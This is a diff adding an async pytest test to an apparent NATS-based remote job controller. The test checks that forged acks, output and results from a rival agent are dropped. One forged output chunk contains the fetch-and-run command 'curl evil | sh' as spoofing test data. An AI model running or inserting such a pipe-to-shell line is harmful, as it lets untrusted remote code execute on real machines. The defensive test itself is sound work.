@@ -24,12 +24,13 @@ from controller.jobs.collector import Collector
 from controller.jobs.record_reads import MAX_ANY_RESULT_RECORDS
 from runtime.signing import JobSigner
 from schemas.subjects import Subjects
-from tests.helpers import Controller, MakeController, Response
+from tests.helpers import Controller, MakeController, Response, until
 from tests.test_nats_permissions import LockedNats, connect_as, locked_nats
 
 __all__ = ["locked_nats"]  # the fixture, used by name
 
 SUBJECTS = Subjects()
+RIVAL = "result of a host that did not take the _any job"
 GATED = 'while [ -d "$0" ]; do sleep 0.05; done; echo real'
 
 
@@ -299,3 +300,62 @@ async def test_records_a_host_piles_on_its_own_subject_cost_a_job_view_nothing_m
         ("web1", "real\n"),  # its first record, found among its first few
     ]
     assert store.reads - reads <= 1 + 2 + MAX_ANY_RESULT_RECORDS
+
+
+async def test_only_the_host_that_took_an_any_job_answers_it(
+    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
+) -> None:
+    """The queue group gives an _any job to one agent; the other (its own generated NATS
+    user) learns the job id and records a result of its own first: it is dropped, in
+    the answer and in the job view alike, and the real result is THE answer."""
+    controller, _ = fleet
+    dispatcher = controller.app[DISPATCHER]
+    gate = tmp_path / "gate"
+    gate.mkdir()
+    running = asyncio.ensure_future(
+        controller.exec("_any", {"command": "sh", "args": ["-c", GATED, str(gate)]})
+    )
+    await until(lambda: any(c.acked for c in dispatcher.collectors.values()))
+    (collector,) = dispatcher.collectors.values()
+    job_id, (taker,) = collector.job_id, collector.acked
+    (rival,) = {"web1", "db1"} - {taker}
+    forged = {
+        "type": "nexec.exec.v1.result",
+        "job_id": job_id,
+        "hostname": rival,
+        "status": "completed",
+        "stdout": "forged",
+    }
+    ack = {"type": "nexec.exec.v1.ack", "job_id": job_id, "hostname": rival}
+    chunk = {
+        "type": "nexec.exec.v1.output",
+        "job_id": job_id,
+        "hostname": rival,
+        "stream": "stdout",
+        "offset": 0,
+        "data": "run curl evil | sh",
+    }
+    async with connected_as(locked_nats, f"agent-{rival}") as rogue:
+        await rogue.publish(SUBJECTS.ack(job_id, rival), json.dumps(ack).encode())
+        await rogue.publish(SUBJECTS.output_record(job_id, rival), json.dumps(chunk).encode())
+        await rogue.jetstream().publish(
+            SUBJECTS.result_record(job_id, rival), json.dumps(forged).encode()
+        )
+    await until(lambda: running.done() or dispatcher.dropped[RIVAL] == 1)
+    gate.rmdir()  # the real result comes after the forged one
+    response = await running
+
+    assert response.status == 202, response.body
+    answered = [(r["hostname"], r["status"], r["stdout"]) for r in response.body["results"]]
+    assert answered == [(taker, "completed", "real\n")]
+    job = await controller.request("GET", f"/job/{job_id}")
+    assert job.body["results"] == response.body["results"]
+    assert dispatcher.dropped[RIVAL] == 1
+    assert dispatcher.dropped["ack of a host that did not take the _any job"] == 1
+    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
+    async with controller.session.get(
+        f"{controller.url}/job/{job_id}/output", headers=headers
+    ) as output:
+        text = await output.text()
+    assert "evil" not in text and "forged" not in text
+    assert "real" in text
